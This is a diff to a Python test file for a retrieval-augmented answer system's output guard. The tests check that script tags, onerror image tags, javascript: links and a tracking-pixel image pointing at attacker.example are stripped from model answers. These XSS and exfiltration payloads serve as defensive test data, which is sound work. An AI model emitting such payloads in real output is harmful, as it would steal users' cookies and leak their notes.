@@ -1,8 +1,11 @@
-"""Finding 14: note text and metadata reach the prompt inert; answers' markup is escaped."""
+"""Finding 14: note text and metadata reach the prompt inert; markup an answer's model wrote is
+removed, a note's markup answered as written (issue 81: escaping is the renderer's)."""
 
 from __future__ import annotations
 
 import re
+
+from llm_helpers import make_chunk
 
 from rag_core.context import select_context
 from rag_core.llm.prompt import build_prompt, format_note_block
@@ -10,8 +13,8 @@ from rag_core.postprocess import OutputGuard, finish_text
 from rag_core.safety.markup import (
     LINK_REMOVED,
     asks_for_link,
+    defuse_markup,
     drop_links,
-    escape_markup,
     note_field,
     note_text,
 )
@@ -76,23 +79,38 @@ def test_note_text_keeps_honest_notes_as_they_are() -> None:
     assert note_text(honest) == honest
 
 
-def test_answer_html_images_and_links_are_escaped(chunks: list[Chunk]) -> None:
+def test_markup_the_model_writes_is_removed_images_and_links_defused(
+        chunks: list[Chunk]) -> None:
+    # Issue 81: the answer is data, so nothing is HTML-escaped (an entity in the JSON was a
+    # note's "<MIME>" mangled); markup no retrieved note holds is removed instead, and whatever
+    # renders answers as HTML escapes them (the results page: tests/evals/test_page_browser.py).
     raw = ("Faith moves [1]. <img src=x onerror=alert(document.cookie)> "
            "![pixel](https://attacker.example/log?d=notes) [click](https://evil.example/login) "
            "[run](javascript:alert(1)) <script>fetch('x')</script> <!-- hidden --> 3 < 4 [2]")
     text, citations = finish_text(raw, chunks)
-    assert "<img" not in text and "&lt;img src=x onerror=alert(document.cookie)&gt;" in text
+    assert "<img" not in text and "onerror" not in text and "&lt;" not in text
     assert "![" not in text and "(image: pixel)" in text and "attacker.example" not in text
     assert "click (https://evil.example/login)" in text and "](" not in text
     assert "javascript:" not in text and "run" in text
-    assert "&lt;script&gt;" in text and "&lt;!-- hidden --&gt;" in text
+    assert "<script>" not in text and "</script>" not in text and "<!--" not in text
     assert "3 < 4" in text  # a lone < is not markup
     assert [c.n for c in citations] == [1, 2]
 
 
-def test_escape_markup_leaves_plain_answers_alone() -> None:
-    plain = "Grace is a gift, not a wage [1]. See Ephesians 2:8-9 [2]."
-    assert escape_markup(plain) == plain
+def test_markup_a_note_holds_is_answered_as_written(chunks: list[Chunk]) -> None:
+    spec = make_chunk(4, "The icons are looked up in <MIME>/icons first, then in the theme; "
+                         "a note may hold <script>alert(1)</script> as an example of a tag.")
+    raw = ("They are looked up in <MIME>/icons first [1]. The example was "
+           "<script>alert(1)</script> as written [1]. Also <MIME> alone.")
+    text, _ = finish_text(raw, [spec])
+    assert "in <MIME>/icons first" in text and "<script>alert(1)</script> as" in text
+    assert "Also alone." in text  # no word of the note beside it: the model's own markup
+    assert "&lt;" not in text and "&gt;" not in text
+
+
+def test_defuse_markup_leaves_plain_answers_alone() -> None:
+    plain = "Grace is a gift, not a wage [1]. See Ephesians 2:8-9 [2]. If a < b, then b > a."
+    assert defuse_markup(plain) == plain
 
 
 def test_links_leave_only_when_the_question_asks_for_one(chunks: list[Chunk]) -> None:
@@ -103,13 +121,15 @@ def test_links_leave_only_when_the_question_asks_for_one(chunks: list[Chunk]) ->
     for address in ("give-now.example.org", "pray.example.com", "church.example.net",
                     "pixel.example.net"):
         assert address not in text
-    assert text.count(LINK_REMOVED) == 4 and [c.n for c in citations] == [1, 2]
+    # three addresses dropped; the <img> went whole, as markup no note holds
+    assert text.count(LINK_REMOVED) == 3 and [c.n for c in citations] == [1, 2]
+    assert "<img" not in text
     asked, _ = finish_text(raw, chunks, "Which website did the note give for prayer requests?")
     assert "https://give-now.example.org/verify" in asked
     assert finish_text(raw, chunks)[0] == asked  # no question to judge by: a library call
     assert not asks_for_link("What did Lydia sell?") and asks_for_link("Is there a link?")
     # a Markdown link's target goes with its parentheses; the sentence keeps its punctuation
-    assert drop_links(escape_markup("See [the map](https://maps.example.org/h), or www.c.org.")) \
+    assert drop_links(defuse_markup("See [the map](https://maps.example.org/h), or www.c.org.")) \
         == f"See the map {LINK_REMOVED}, or {LINK_REMOVED}."
 
 
